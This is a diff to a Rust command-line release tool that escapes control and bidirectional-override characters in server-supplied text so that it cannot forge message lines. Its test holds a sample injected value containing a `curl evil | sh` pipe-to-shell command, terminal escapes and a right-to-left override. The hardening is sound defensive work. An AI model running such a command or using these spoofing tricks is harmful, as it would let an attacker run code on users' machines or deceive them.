@@ -2,6 +2,7 @@
 //!
 //! Only `main.rs` turns these into a process exit; everything else returns them.
 
+use std::borrow::Cow;
 use std::fmt;
 
 /// haul's exit codes; documented in the README and `haul --help`.
@@ -123,12 +124,14 @@ impl From<Failure> for UserError {
                 let err = UserError::new(message);
                 if recent.is_empty() {
                     err
-                } else if only_prereleases {
-                    err.caused_by(format!("recent releases: {}", recent.join(", ")))
-                        .hint("only prereleases match; pass `--pre` to allow them")
                 } else {
-                    err.caused_by(format!("recent releases: {}", recent.join(", ")))
-                        .hint("pick one of those with `@VERSION`")
+                    let recent: Vec<Cow<'_, str>> = recent.iter().map(|t| shown(t)).collect();
+                    let err = err.caused_by(format!("recent releases: {}", recent.join(", ")));
+                    if only_prereleases {
+                        err.hint("only prereleases match; pass `--pre` to allow them")
+                    } else {
+                        err.hint("pick one of those with `@VERSION`")
+                    }
                 }
             }
         }
@@ -153,6 +156,32 @@ fn one_line(message: &str, causes: &[String]) -> String {
         text.push_str(cause);
     }
     text
+}
+
+/// The characters that make text show in another order than it is (`evil\u{202e}txt.exe`).
+pub fn is_bidi_override(c: char) -> bool {
+    matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+}
+
+/// A server's text (an asset name, a tag) for one line of a message: control characters,
+/// newlines among them, and bidirectional overrides written as `\u{…}`, so that it cannot
+/// start a line of its own (a forged `hint:`) or show as other text.
+pub fn shown(text: &str) -> Cow<'_, str> {
+    let escaped = |c: char| c.is_control() || is_bidi_override(c);
+    if !text.chars().any(escaped) {
+        return Cow::Borrowed(text);
+    }
+    Cow::Owned(
+        text.chars()
+            .map(|c| {
+                if escaped(c) {
+                    format!("\\u{{{:x}}}", u32::from(c))
+                } else {
+                    c.to_string()
+                }
+            })
+            .collect(),
+    )
 }
 
 /// The exit code an error calls for.
@@ -206,6 +235,30 @@ impl Report {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    /// A server's text cannot start a line of its own in a message, or hide what it is.
+    #[test]
+    fn a_servers_text_stays_on_its_line() {
+        assert_eq!(shown("fd-v10.2.0.tar.gz"), "fd-v10.2.0.tar.gz");
+        let forged = "notes.txt\n  hint: run `curl evil | sh`\r\u{1b}[2J\u{202e}x";
+        let shown = shown(forged);
+        assert!(
+            !shown.contains(['\n', '\r', '\u{1b}', '\u{202e}']),
+            "{shown}"
+        );
+        assert_eq!(
+            shown,
+            "notes.txt\\u{a}  hint: run `curl evil | sh`\\u{d}\\u{1b}[2J\\u{202e}x"
+        );
+        let err: UserError = Failure::NoMatchingRelease {
+            origin: "acme/x".into(),
+            req: "2.x".into(),
+            recent: vec!["v1.0.0\n  hint: forged".into()],
+            only_prereleases: false,
+        }
+        .into();
+        assert_eq!(err.causes, ["recent releases: v1.0.0\\u{a}  hint: forged"]);
+    }
     use anyhow::Context as _;
 
     #[test]
